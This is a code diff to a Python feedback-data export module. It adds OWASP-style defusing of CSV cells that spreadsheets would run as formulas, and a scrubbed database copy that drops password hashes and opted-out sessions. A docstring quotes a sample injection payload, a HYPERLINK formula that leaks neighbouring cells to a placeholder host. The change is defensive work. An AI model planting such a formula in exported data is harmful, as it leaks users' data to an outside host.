@@ -11,7 +11,9 @@ Ties and "both bad" carry no ordering between the two answers and have no place 
 format; they are skipped here (the CSV export keeps every judgement).
 
 Also here: the filtered TRL and CSV exports the console and ``python -m feedback export``
-offer, and a consistent copy of the live database (``backup_db``).
+offer, a consistent copy of the live database (``backup_db``, the operator's full backup)
+and the copy the console hands out (``shareable_db_copy``: no password hashes, no opted-out
+sessions).  CSV cells that a spreadsheet would run as a formula are defused (OWASP).
 """
 
 from __future__ import annotations
@@ -70,6 +72,17 @@ CSV_COLUMNS = ("record_type", "id", "created_at", "decided_at", "kind", "session
                "conversation_id", "turn", "a_version", "b_version", "prompt", "a_text", "b_text",
                "reasons", "comment", "excluded", "exclude_reason", "excluded_by", "excluded_at",
                "used_in_run", "context_json")
+# A spreadsheet runs a cell starting with one of these as a formula (OWASP "CSV injection").
+FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+
+
+def defuse_cell(value):
+    """Prefixes a single quote to a text cell a spreadsheet would evaluate, as OWASP
+    recommends: ``=HYPERLINK("http://x/?"&A2)`` typed into a chat then opens as text, not as
+    a link leaking the neighbouring cells.  Other values are returned unchanged."""
+    if isinstance(value, str) and value.startswith(FORMULA_START):
+        return "'" + value
+    return value
 
 
 def _export_filters(filters, include_excluded: bool):
@@ -134,7 +147,7 @@ def export_csv(store, path: Path | str, filters=None, include_excluded: bool = F
         writer = csv.DictWriter(fh, fieldnames=CSV_COLUMNS)
         writer.writeheader()
         for row in csv_rows(store, filters, include_excluded):
-            writer.writerow(row)
+            writer.writerow({k: defuse_cell(v) for k, v in row.items()})
             n += 1
     tmp.replace(path)
     return n
@@ -163,3 +176,50 @@ def backup_db(source: Path | str, dest: Path | str) -> Path:
         src.close()
     tmp.replace(dest)
     return dest
+
+
+def shareable_db_copy(source: Path | str, dest: Path | str) -> Path:
+    """A consistent copy (``backup_db``) fit to hand out from the console: the ``users``
+    table is emptied (password hashes stay on the server) and every row of an opted-out
+    session is deleted, in any table that names the session or one of its conversations.
+    ``secure_delete`` and ``VACUUM`` make sure the deleted bytes are not left in free pages.
+    The schema is untouched, so the app can open the copy."""
+    dest = Path(dest)
+    tmp = backup_db(source, dest.with_name(dest.name + ".scrub"))
+    try:
+        conn = sqlite3.connect(str(tmp), isolation_level=None)
+        try:
+            conn.execute("PRAGMA secure_delete = ON")
+            conn.execute("BEGIN")
+            _drop_private_rows(conn)
+            conn.execute("COMMIT")
+            conn.execute("VACUUM")
+        finally:
+            conn.close()
+        tmp.replace(dest)
+    finally:
+        tmp.unlink(missing_ok=True)
+    return dest
+
+
+def _drop_private_rows(conn: sqlite3.Connection) -> None:
+    """Deletes the users and everything recorded for opted-out sessions (see above); tables
+    are found by their columns, so tables added later are covered too."""
+    conn.execute("DELETE FROM users")
+    conn.execute("CREATE TEMP TABLE gone_sessions AS SELECT id FROM sessions WHERE opt_out = 1")
+    conn.execute("CREATE TEMP TABLE gone_conversations AS SELECT id FROM conversations "
+                 "WHERE session_id IN (SELECT id FROM gone_sessions)")
+    conn.execute("CREATE TEMP TABLE gone_records AS "
+                 "SELECT 'comparison' AS record_type, id FROM comparisons "
+                 "WHERE session_id IN (SELECT id FROM gone_sessions) "
+                 "UNION ALL SELECT 'rating', id FROM ratings WHERE session_id IN (SELECT id FROM gone_sessions)")
+    conn.execute("DELETE FROM review_log WHERE (record_type, record_id) IN (SELECT record_type, id FROM gone_records)")
+    tables = [r[0] for r in conn.execute("SELECT name FROM sqlite_master WHERE type = 'table' "
+                                         "AND name NOT LIKE 'sqlite_%'")]
+    for table in tables:
+        columns = {r[1] for r in conn.execute(f'PRAGMA table_info("{table}")')}
+        if "session_id" in columns:
+            conn.execute(f'DELETE FROM "{table}" WHERE session_id IN (SELECT id FROM gone_sessions)')
+        if "conversation_id" in columns:
+            conn.execute(f'DELETE FROM "{table}" WHERE conversation_id IN (SELECT id FROM gone_conversations)')
+    conn.execute("DELETE FROM sessions WHERE id IN (SELECT id FROM gone_sessions)")
